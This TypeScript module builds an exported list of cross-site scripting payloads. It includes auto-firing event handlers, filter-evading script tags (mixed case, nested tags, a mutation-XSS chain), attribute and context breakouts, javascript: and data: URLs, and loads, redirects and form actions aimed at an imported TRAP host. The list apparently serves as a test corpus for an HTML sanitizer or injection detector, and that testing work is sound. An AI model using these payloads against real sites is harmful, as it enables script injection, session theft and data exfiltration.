import { CALLS, TRAP } from './marks'

const EVENTS: readonly (readonly [element: string, event: string])[] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['style', 'onload'],
  ['div style="animation:spin 1s"', 'onanimationstart'],
]
/** How handlers are set apart from what stands before them: spaces and what browsers take for one. */
const BREAKS = [' ', '/', '\n', '\t'] as const

/** Elements that run a handler by themselves. */
const handlers = EVENTS.flatMap(([element, event], at) =>
  CALLS.slice(0, 3).map((call, turn) => `<${element}${BREAKS[(at + turn) % BREAKS.length]}${event}=${call}>`),
)

/** Scripts and frames, some written so that a filter misses them. */
const scripts = CALLS.flatMap((call) => [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script/x>${call}</script>`,
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script src="${TRAP}/x.js?${call}"></script>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
])

/** Ends of what the text may stand in: an attribute, a title, a style sheet, a script, a comment, a template. */
const BREAKOUTS = [
  '">',
  "'>",
  '</title>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</svg>',
  '"/>',
  '`>',
] as const
const breakouts = BREAKOUTS.flatMap((end) => [
  `${end}<img src=x onerror=alert(1)>`,
  `${end}<script>alert(1)</script>`,
  `${end}<svg onload=alert(1)>`,
])

/** Attributes that a careless template would take over. */
const attributes = CALLS.flatMap((call) => [
  `" onmouseover="${call}" x="`,
  `' onfocus='${call}' autofocus='`,
  `" autofocus onfocus=${call} "`,
  `x" style="animation-name:x" onanimationstart="${call}`,
])

/** Addresses that are code or lead away. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  `//trap.invalid/x`,
  `${TRAP}/beacon`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="${TRAP}" target=_top>click</a>`,
  `[click](javascript:alert(1))`,
  `![x](${TRAP}/x.png)`,
  `<base href="${TRAP}/">`,
  `<meta http-equiv="refresh" content="0;url=${TRAP}">`,
  `<link rel=stylesheet href="${TRAP}/x.css">`,
  `<link rel=prefetch href="${TRAP}/x">`,
  `<form action="${TRAP}"><button>go</button></form>`,
  `<img src="${TRAP}/x.png">`,
  `<img srcset="${TRAP}/x.png 1x">`,
  `<video poster="${TRAP}/x.png">`,
  `<embed src="${TRAP}/x">`,
  `<object data="${TRAP}/x"></object>`,
  `<iframe src="${TRAP}"></iframe>`,
]

export const MARKUP: readonly string[] = [...handlers, ...scripts, ...breakouts, ...attributes, ...addresses]
